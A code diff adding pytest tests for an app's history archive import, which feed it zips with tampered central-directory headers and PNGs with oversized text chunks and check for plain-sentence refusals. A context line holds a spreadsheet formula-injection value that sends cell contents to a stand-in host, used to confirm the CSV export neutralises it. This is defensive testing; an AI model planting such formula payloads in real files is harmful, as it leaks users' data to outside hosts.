@@ -4,6 +4,7 @@ whose source is missing or corrupt is refused with a sentence before anything of
 
 from __future__ import annotations
 
+import io
 import json
 import zipfile
 from pathlib import Path
@@ -224,3 +225,64 @@ def test_the_csv_shows_a_formula_as_text(store, tmp_path):
         records = json.loads(opened.read("history.json"))["generations"]
     assert prompts == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(1+1)"]
     assert records[0]["prompt"].startswith("=HYPERLINK")  # history.json, which an import reads, keeps it as it was
+
+
+def with_central_header(archive: Path, target: Path, member: str, offset: int, value: bytes) -> Path:
+    """A copy of `archive` whose central-directory entry for `member` has `value` at `offset` (8: the flag bits, 10:
+    the compression method): what another zip tool may write, and what zipfile reads before opening a member."""
+    data = bytearray(archive.read_bytes())
+    start = data.find(b"PK\x01\x02")  # the first central-directory entry; walk to `member`'s
+    while start != -1:
+        name_length = int.from_bytes(data[start + 28 : start + 30], "little")
+        if data[start + 46 : start + 46 + name_length] == member.encode():
+            data[start + offset : start + offset + len(value)] = value
+            target.write_bytes(bytes(data))
+            return target
+        start = data.find(b"PK\x01\x02", start + 46)
+    raise AssertionError(f"{member} not in {archive}")
+
+
+@pytest.mark.parametrize(
+    ("member", "offset", "value", "sentence"),
+    [
+        ("history.json", 8, b"\x01\x00", r"^The history.json in that zip is encrypted \(exports are not; unzip it"),
+        ("history.json", 10, b"\x63\x00", r"^The history.json in that zip is compressed in a way this app cannot"),
+        ("image", 8, b"\x01\x00", r"^images/.+\.png in that zip is encrypted"),
+        ("image", 10, b"\x01\x00", r"^images/.+\.png in that zip is compressed in a way this app cannot read"),
+    ],
+    ids=["encrypted-json", "aes-json", "encrypted-png", "shrunk-png"],
+)  # fmt: skip
+def test_a_zip_another_tool_wrote_is_refused_in_a_sentence(store, other, tmp_path, member, offset, value, sentence):
+    """A hostile pass: a password-protected zip, or one compressed in a method zipfile lacks, read "Something went
+    wrong (RuntimeError / NotImplementedError)"."""
+    store.add(new_generation("a fox"))
+    archive = tmp_path / "history.zip"
+    store.export_archive(archive)
+    if member == "image":
+        with zipfile.ZipFile(archive) as zipped:
+            member = next(name for name in zipped.namelist() if name.endswith(".png"))
+    changed = with_central_header(archive, tmp_path / "changed.zip", member, offset, value)
+    with pytest.raises(StorageError, match=sentence):
+        other.import_archive(changed)
+    assert other.count() == 0
+
+
+def test_an_image_with_an_oversized_text_chunk_is_refused_in_a_sentence(store, other, tmp_path):
+    """Pillow refuses a PNG text chunk over 1 MB with a ValueError: it read "Something went wrong (ValueError)"."""
+    from PIL import PngImagePlugin
+
+    store.add(new_generation("a fox"))
+    archive = tmp_path / "history.zip"
+    store.export_archive(archive)
+
+    def with_big_text(name, data):
+        if not name.endswith(".png"):
+            return data
+        info = PngImagePlugin.PngInfo()
+        info.add_text("comment", "x" * (2 * 2**20), zip=True)
+        buffer = io.BytesIO()
+        Image.open(io.BytesIO(data)).save(buffer, format="PNG", pnginfo=info)
+        return buffer.getvalue()
+
+    with pytest.raises(StorageError, match=r"\.png in that zip is not a readable PNG\.$"):
+        other.import_archive(rewritten(archive, tmp_path / "big-text.zip", with_big_text))
